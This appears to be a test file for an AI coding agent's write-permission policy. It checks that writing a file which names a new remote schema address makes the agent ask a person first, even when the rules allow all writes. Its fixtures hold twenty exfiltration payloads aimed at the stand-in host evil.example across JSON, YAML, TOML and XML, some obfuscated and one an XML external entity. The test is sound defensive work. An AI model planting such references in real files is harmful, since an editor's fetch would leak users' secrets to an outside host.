import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { judge } from "../../../src/core/policy.ts";
import { newSchemaAddress } from "../../../src/tools/files/schemaAddress.ts";
import { sandbox } from "./support/workspace.ts";

const evil = "https://evil.example/?data=secret";
/** Files that an editor would send the secret from, by opening them or by showing their difference. */
const sending: [file: string, text: string][] = [
  ["a.json", `{"$schema": "${evil}"}`],
  ["a.json", `{ "\\u0024schema" : "${evil}" }`],
  ["a.json", `{"$schema": "https:\\/\\/evil.example\\/?data=secret"}`],
  ["a.json", `{"$schema":\n\t"\\u0068ttps://evil.example/?data=secret"}`],
  ["a.json", `{"$schema": "HTTP://evil.example/x"}`],
  ["a.json", `{"$schema": "//evil.example/x"}`],
  ["a.json", `{"$schema": "ftp://evil.example/x"}`],
  ["a.jsonc", `// c\n{"a": 1, /* c */ "$schema": "${evil}"}`],
  ["schema.json", `{"properties": {"a": {"$ref": "${evil}"}}}`],
  ["a.yaml", `# yaml-language-server: $schema=${evil}\na: 1`],
  ["a.yml", `# $schema: ${evil}`],
  ["a.yml", `$schema: ${evil}\na: 1`],
  ["a.yml", `'$schema': "${evil}"`],
  ["a.toml", `#:schema ${evil}`],
  ["a.xml", `<a xsi:schemaLocation="urn:x ${evil}"/>`],
  ["a.xml", `<a xsi:noNamespaceSchemaLocation='${evil}'/>`],
  ["a.xml", `<!DOCTYPE a SYSTEM "${evil}"><a/>`],
  ["a.xml", `<!DOCTYPE a PUBLIC "-//x//y" "${evil}"><a/>`],
  ["a.xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "${evil}">]><a>&b;</a>`],
  ["a.xml", `<?xml-model href="${evil}"?><a/>`],
];

test("attack 27: a written file that names a remote schema is asked about, whatever the rules say", async (context) => {
  const rules = { decision: "allow", reasons: ["The person allows all writing."] } as const;
  for (const [file, text] of sending) {
    const box = sandbox(context);
    box.put({ "known.json": "{}", [`edited-${file}`]: "old" });
    await box.run("read_file", { path: `edited-${file}` });
    for (const [tool, input] of [
      ["write_file", { path: file, content: text }],
      ["write_file", { path: `edited-${file}`, content: text }],
      ["edit_file", { path: `edited-${file}`, edits: [{ oldText: "old", newText: text }] }],
    ] as const) {
      const { caution } = await box.prepare(tool, input);
      assert.match(caution ?? "nothing", /an editor may fetch/, `${tool} ${text}`);
      assert.equal(judge({ effect: "write", trusted: true, caution, rules }), "ask", text);
    }
  }
  context.diagnostic(`${sending.length * 3} attacks`);
});

test("what names no address, or only one that was there before, needs no person for that", () => {
  const tsconfig = `{"$schema": "https://json.schemastore.org/tsconfig"}`;
  assert.equal(newSchemaAddress(tsconfig, tsconfig.replace("}", `, "a": 1}`)), null);
  assert.match(newSchemaAddress(tsconfig, tsconfig.replace("tsconfig", "x")) ?? "", /json\.schemastore\.org\/x/);
  for (const text of [
    `{"$schema": "./local.json", "$ref": "#/definitions/a"}`,
    `{"home": "https://example.com"}`,
    "<!DOCTYPE html>\n<a href='https://example.com'>x</a>",
    "// see https://example.com/$schema",
    "const schema = z.object({ url: 'https://example.com' });",
    "",
  ])
    assert.equal(newSchemaAddress(null, text), null, text);
  const root = process.env.STUDIO_ROOT ?? process.cwd();
  for (const file of ["src/core/loop.ts", "README.md", "package.json", "esbuild.mjs"])
    assert.equal(newSchemaAddress(null, readFileSync(path.join(root, file), "utf8")), null, file);
});
